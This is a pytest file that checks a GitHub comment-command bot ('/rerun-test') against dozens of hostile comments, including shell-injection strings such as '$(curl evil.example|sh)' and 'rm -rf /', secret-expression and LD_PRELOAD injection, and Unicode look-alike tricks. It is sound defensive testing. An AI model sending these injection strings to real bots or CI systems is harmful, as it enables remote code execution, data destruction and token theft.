"""Comments that try to get more than the bot gives, each with what comes of it.

Every row goes through the whole parsing job against the API. Nothing is ever measured but where a
row says so; a refusal names its rule; who has no access makes the bot write nothing.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

import pytest

from tests.bot.github_model import pull, stamp, workflow_run
from tests.bot.workplace import BASE, FORK, FORK_HEAD, HEAD, PULL, RUN, Workplace, suites

IGNORED, SILENT = "ignored", "silent"
"""No request at all; a reaction at most, and no comment."""


@dataclass
class Attack:
    """One comment, what is changed around it, and the outcome: a rule, or one of the above."""

    name: str
    body: str
    outcome: str
    given: dict[str, Any] = field(default_factory=dict)
    around: Callable[[Workplace], object] = id


def line(name: str, rest: str, outcome: str = "grammar", **given: Any) -> Attack:
    return Attack(name, f"/rerun-test {rest}", outcome, given)


GOOD = "/rerun-test test_a.py"
FIRST_LINES = [
    line("command substitution", "$(curl evil.example|sh).py"),
    line("backticks", "`id`.py"),
    line("semicolon", "test_a.py; rm -rf /"),
    line("and", "test_a.py && id"),
    line("pipe", "test_a.py | tee /etc/passwd"),
    line("redirect", "test_a.py > /tmp/x"),
    line("background", "test_a.py &"),
    line("variable", "$HOME/test_a.py"),
    line("expression", "${{ secrets.GITHUB_TOKEN }}"),
    line("quotes", "'test_a.py'"),
    line("double quotes", '"test_a.py"'),
    line("escaped space", "suites/test\\ a.py"),
    line("glob", "suites/*.py"),
    line("question mark", "suites/test_?.py"),
    line("braces", "suites/{test_a,test_b}.py"),
    line("home", "~/test_a.py"),
    line("parent", "../test_a.py"),
    line("parent inside", "suites/../setup.py"),
    line("absolute path", "/etc/test_a.py"),
    line("dot folder", ".github/test_a.py"),
    line("hidden file", "suites/.test_a.py"),
    line("dash file", "-test_a.py"),
    line("url", "https://evil.example/test_a.py"),
    line("windows path", "suites\\test_a.py"),
    line("folder", "suites"),
    line("parameter", "test_a.py::test_x[1-2]"),
    line("expression of pytest", "test_a.py -k test_x"),
    line("plugin", "test_a.py -p evil"),
    line("rev", "test_a.py --rev main"),
    line("interpreter", "test_a.py --rev-python /tmp/python"),
    line("environment", "test_a.py --env LD_PRELOAD=/tmp/x.so"),
    line("axis", "test_a.py --axis model_path=/tmp/x"),
    line("store", "test_a.py --store /tmp/x"),
    line("json", "test_a.py --json /tmp/x"),
    line("another ray", "test_a.py --address 1.2.3.4:6379"),
    line("equals form", "test_a.py --repeats=9"),
    line("end of options", "test_a.py -- --rev main"),
    line("flag as a value", "test_a.py --repeats --tp"),
    line("value twice", "test_a.py --tp 1 --tp 2"),
    line("negative", "test_a.py --repeats -5"),
    line("zero", "test_a.py --gpus 0"),
    line("float", "test_a.py --repeats 1.5"),
    line("hexadecimal", "test_a.py --repeats 0x10"),
    line("arabic digits", "test_a.py --repeats \u0665"),
    line("overflow", "test_a.py --repeats " + "9" * 400),
    line("short sha", "test_a.py --sha 1111111"),
    line("branch as sha", "test_a.py --sha main"),
    line("upper-case sha", f"test_a.py --sha {'A' * 40}"),
    line("long sha", f"test_a.py --sha {'1' * 41}"),
    line("nul byte", "test_a.py\x00--repeats 9"),
    line("escape sequence", "test_a.py \x1b[2K"),
    line("tab", "test_a.py\t--tp 2"),
    line("nothing", ""),
    line("remove", "-rf /"),
    line("markdown link", "[x](test_a.py)"),
    line("html comment", "<!-- test_a.py -->"),
    line("mention", "@everyone"),
    line("module", "suites.test_a"),
    line("too deep a name", "test_a.py::A::b::c"),
    line("sha without a value", "test_a.py --sha"),
    line("unknown backend", "test_a.py --backend evil"),
    line("order twice", "test_a.py --order ascending,ascending"),
    line("until a number", "test_a.py --until 5"),
    line("against a branch", "test_a.py --against main"),
    line("conftest", "conftest.py", "not-found"),
    line("conftest by its path", "suites/conftest.py", "not-found"),
    line("windows line end", "test_a.py\r\naction=measure", "measure"),
    line("right-to-left", "test_a.py \u202eyp.b"),
    line("zero-width", "test_\u200ba.py"),
    line("cyrillic a", "test_\u0430.py"),
    line("full-width dashes", "test_a.py \uff0d\uff0dtp 2"),
    line("line separator", "test_a.py\u2028--tp 2"),
    line("lone carriage return", "test_a.py\r--tp 2"),
    line("several commands", "test_a.py\n/rerun-test test_a.py --repeats 200"),
    line("many suites", " ".join(f"t{n}.py" for n in range(100_000 // 12))),
    line("huge body", "x" * 65_000),
    line("workflow command", "::add-mask::x"),
    line("output injection", "test_a.py\n", "measure"),
    line("text that follows", "test_a.py\naction=measure\n$(id)", "measure"),
]
NOT_COMMANDS = [
    Attack("leading space", " " + GOOD, IGNORED),
    Attack("quoted", "> " + GOOD, IGNORED),
    Attack("code block", f"```\n{GOOD}\n```", IGNORED),
    Attack("second line", f"hello\n{GOOD}", IGNORED),
    Attack("glued", "/rerun-testtest_a.py", IGNORED),
    Attack("look-alike slash", "\u2215rerun-test test_a.py", IGNORED),
    Attack("look-alike dash", "/rerun\u2011test test_a.py", IGNORED),
    Attack("no-break space", "/rerun-test\u00a0test_a.py", IGNORED),
    Attack("byte order mark", "\ufeff" + GOOD, IGNORED),
    Attack("capitals", GOOD.upper(), IGNORED),
    Attack("full-width slash", "\uff0f" + GOOD[1:], IGNORED),
    Attack("nul byte first", "\x00" + GOOD, IGNORED),
    Attack("line end first", "\r\n" + GOOD, IGNORED),
    Attack("zero-width space first", "\u200b" + GOOD, IGNORED),
    Attack("empty", "", IGNORED),
    Attack("by a bot", GOOD, IGNORED, {"kind": "Bot"}),
    Attack("by an app", GOOD, IGNORED, {"login": "evil[bot]"}),
    Attack("edited event", GOOD, IGNORED, {"action": "edited"}),
    Attack("deleted event", GOOD, IGNORED, {"action": "deleted"}),
    Attack("on an issue", GOOD, IGNORED, {"is_pull": False}),
]


def edited(place: Workplace) -> None:
    place.github.comments[place.comment]["body"] = GOOD + " --repeats 200"


def deleted(place: Workplace) -> None:
    del place.github.comments[place.comment]


def deleted_after_the_reaction(place: Workplace) -> None:
    place.github.fail("GET", r"/issues/comments/\d+$", 404)


def second_attempt(place: Workplace) -> None:
    place.environment["GITHUB_RUN_ATTEMPT"] = "2"


def earlier(
    place: Workplace, status: str, *, n: int = 1, job: str | None = None, **at: Any
) -> None:
    """Runs that came before, by the same user on the same pull request unless said otherwise."""
    for number in range(RUN - n, RUN):
        who = at.get("login", "maintainer")
        comment = at.get("comment", number)
        title = f"rerun-test #{at.get('on', PULL)} by {who} (comment {comment})"
        ago = timedelta(hours=at.get("hours", 2))
        place.github.runs.append(workflow_run(number, title, status, ago=ago))
        if job:
            start = place.now - timedelta(minutes=at.get("minutes_ago", 100))
            end = start + timedelta(minutes=at.get("took", 60))
            done = status not in ("queued", "in_progress")
            place.github.jobs[number] = [
                {
                    "name": job,
                    "status": "completed" if done else status,
                    "conclusion": status if done else None,
                    "started_at": stamp(start),
                    "completed_at": stamp(end) if done else None,
                    "html_url": f"https://github.example/job/{number}",
                }
            ]


CPU_JOB = "measure (0 GPUs, at most 60 min)"
GPU_JOB = "measure (2 GPUs, at most 60 min)"


def delivered_twice(place: Workplace) -> None:
    earlier(place, "success", comment=place.comment, job=CPU_JOB)


def budget_spent(place: Workplace) -> None:
    earlier(place, "success", n=2, job=GPU_JOB)


def budget_reserved_by_one_that_runs_elsewhere(place: Workplace) -> None:
    place.policy.write_text(place.policy.read_text().replace("active = 1", "active = 9"))
    earlier(place, "in_progress", n=2, on=99, job=GPU_JOB)


def pull_requests_budget_spent_by_others(place: Workplace) -> None:
    earlier(place, "success", n=3, login="other", job=GPU_JOB)


def just_measured(place: Workplace) -> None:
    earlier(place, "success", job=CPU_JOB, minutes_ago=4, took=1)


def one_runs_elsewhere(place: Workplace) -> None:
    earlier(place, "in_progress", on=99, job=CPU_JOB)


def two_of_others_run_here(place: Workplace) -> None:
    earlier(place, "queued", n=2, login="other", job=CPU_JOB)


def many_commands(place: Workplace) -> None:
    earlier(place, "success", n=6)


def head_pushed_late(place: Workplace) -> None:
    late = stamp(place.now + timedelta(seconds=1))
    place.github.check_suites[HEAD] = [{"head_branch": "topic", "created_at": late}]


def head_seen_on_another_branch_alone(place: Workplace) -> None:
    place.github.check_suites[HEAD][0]["head_branch"] = "decoy"


def head_without_check_suite(place: Workplace) -> None:
    place.github.check_suites.clear()


def closed(place: Workplace) -> None:
    place.github.pulls[PULL] = pull(PULL, HEAD, BASE, state="closed")


def vanished_fork(place: Workplace) -> None:
    place.github.pulls[PULL] = pull(PULL, HEAD, BASE, head_repo=None)


def a_link(place: Workplace) -> None:
    place.github.trees[HEAD] = {
        "truncated": False,
        "tree": [{"path": "suites/test_a.py", "mode": "120000"}],
    }


def a_name_twice(place: Workplace) -> None:
    place.github.trees[HEAD] = suites("suites/x/test_a.py", "suites/y/test_a.py")


def a_huge_tree(place: Workplace) -> None:
    place.github.trees[HEAD] = {"truncated": True, "tree": []}


def own_base(place: Workplace) -> None:
    place.github.merge_bases[BASE, HEAD] = HEAD


def policy(change: Callable[[str], str]) -> Callable[[Workplace], None]:
    def write(place: Workplace) -> None:
        place.policy.write_text(change(place.policy.read_text()))

    return write


def no_policy(place: Workplace) -> None:
    place.policy.unlink()


def unknown_role(place: Workplace) -> None:
    place.github.permissions["maintainer"] = {"permission": "owner", "role_name": "god"}


FORKED = {"on": FORK}
AROUND = [
    Attack("stranger", GOOD, SILENT, {"login": "stranger"}),
    Attack("stranger's nonsense", "/rerun-test $(id)", SILENT, {"login": "stranger"}),
    Attack("stranger asks for help", "/rerun-test help", SILENT, {"login": "stranger"}),
    Attack("stranger cancels", "/rerun-test cancel", SILENT, {"login": "stranger"}),
    Attack("role unheard of", GOOD, SILENT, {}, unknown_role),
    Attack("edited since", GOOD, SILENT, {}, edited),
    Attack("deleted since", GOOD, SILENT, {}, deleted),
    Attack("deleted meanwhile", GOOD, SILENT, {}, deleted_after_the_reaction),
    Attack("run again by the button", GOOD, SILENT, {}, second_attempt),
    Attack("delivered twice", GOOD, SILENT, {}, delivered_twice),
    Attack("fork without a commit", GOOD, "fork", FORKED),
    Attack("fork's author", f"{GOOD} --sha {FORK_HEAD}", SILENT, {**FORKED, "login": "author"}),
    Attack("fork with its commit", f"{GOOD} --sha {FORK_HEAD}", "measure", FORKED),
    Attack("fork with another's commit", f"{GOOD} --sha {HEAD}", "sha", FORKED),
    Attack("fork that vanished", GOOD, "fork", {}, vanished_fork),
    Attack("commit of elsewhere", f"{GOOD} --sha {FORK_HEAD}", "sha"),
    Attack("older commit of the pull request", f"{GOOD} --sha {'4' * 40}", "measure"),
    Attack("head pushed after the comment", GOOD, "head", {}, head_pushed_late),
    Attack("head that stood elsewhere", GOOD, "head", {}, head_seen_on_another_branch_alone),
    Attack("head without a date", GOOD, "head", {}, head_without_check_suite),
    Attack("closed pull request", GOOD, "closed", {}, closed),
    Attack("suite outside the grant", "/rerun-test docs/test_c.py", "suites"),
    Attack("suite outside by bare name", "/rerun-test test_c.py", "not-found"),
    Attack("program as a suite", "/rerun-test setup.py", "suites"),
    Attack("no such suite", "/rerun-test suites/test_z.py", "not-found"),
    Attack("link as a suite", "/rerun-test suites/test_a.py", "not-found", {}, a_link),
    Attack("name of two", GOOD, "ambiguous", {}, a_name_twice),
    Attack("one suite by two names", f"{GOOD} suites/test_a.py", "grammar"),
    Attack("tree that is cut short", GOOD, "tree", {}, a_huge_tree),
    Attack("repeats above the grant", f"{GOOD} --repeats 201", "repeats"),
    Attack("gpus above the grant", f"{GOOD} --gpus 4", "gpus"),
    Attack("gpus that no runner has", f"{GOOD} --gpus 1", "gpus"),
    Attack("tp above gpus", f"{GOOD} --gpus 2 --tp 4", "gpus"),
    Attack("author on the own branch", GOOD + " --repeats 10", "measure", {"login": "author"}),
    Attack("author beyond the grant", GOOD + " --repeats 11", "repeats", {"login": "author"}),
    Attack(
        "author's other suite",
        "/rerun-test test_b.py --repeats 1",
        "not-found",
        {"login": "author"},
    ),
    Attack("base that is the head", f"{GOOD} --against base", "base", {}, own_base),
    Attack("budget spent", f"{GOOD} --gpus 2", "budget", {}, budget_spent),
    Attack("budget reserved", GOOD, "budget", {}, budget_reserved_by_one_that_runs_elsewhere),
    Attack("others' budget", GOOD, "budget", {}, pull_requests_budget_spent_by_others),
    Attack("cooldown", GOOD, "cooldown", {}, just_measured),
    Attack("one at a time", GOOD, "active", {}, one_runs_elsewhere),
    Attack("two per pull request", GOOD, "active", {}, two_of_others_run_here),
    Attack("too many commands", GOOD, "commands", {}, many_commands),
    Attack("no policy", GOOD, "policy", {}, no_policy),
    Attack("broken policy", GOOD, "policy", {}, policy(lambda text: text + "[[[")),
    Attack("policy with a typo", GOOD, "policy", {}, policy(lambda t: "defualt = 1\n" + t)),
    Attack("newer policy", GOOD, "policy", {}, policy(lambda t: t.replace("sion = 1", "sion = 2"))),
]


@pytest.mark.parametrize("attack", FIRST_LINES + NOT_COMMANDS + AROUND, ids=lambda a: a.name)
def test_a_comment_gets_what_its_row_says(place: Workplace, attack: Attack) -> None:
    place.says(attack.body, **attack.given)
    attack.around(place)
    on = attack.given.get("on", PULL)
    outputs = place.parse()
    if attack.outcome == "measure":
        assert outputs["action"] == "measure"
        assert "queued" in place.answer(on)
        return
    assert outputs == {"action": "none"}
    assert place.github.cancelled == []
    if attack.outcome == IGNORED:
        assert place.github.calls == []
    elif attack.outcome == SILENT:
        assert place.answer(on) == ""
        assert place.summary()
    else:
        assert f"refused by rule `{attack.outcome}`" in place.answer(on)
        assert place.github.reactions == [(place.comment, "eyes")]


def test_the_table_is_as_long_as_it_should_be() -> None:
    assert len(FIRST_LINES + NOT_COMMANDS + AROUND) >= 60


@pytest.mark.parametrize("attack", [FIRST_LINES[0], FIRST_LINES[49], FIRST_LINES[-1]], ids=str)
def test_processes_do_the_same(place: Workplace, attack: Attack) -> None:
    place.says(attack.body)
    done = place.process("parse", "--policy", str(place.policy))
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert place.outputs()["action"] == ("measure" if attack.outcome == "measure" else "none")
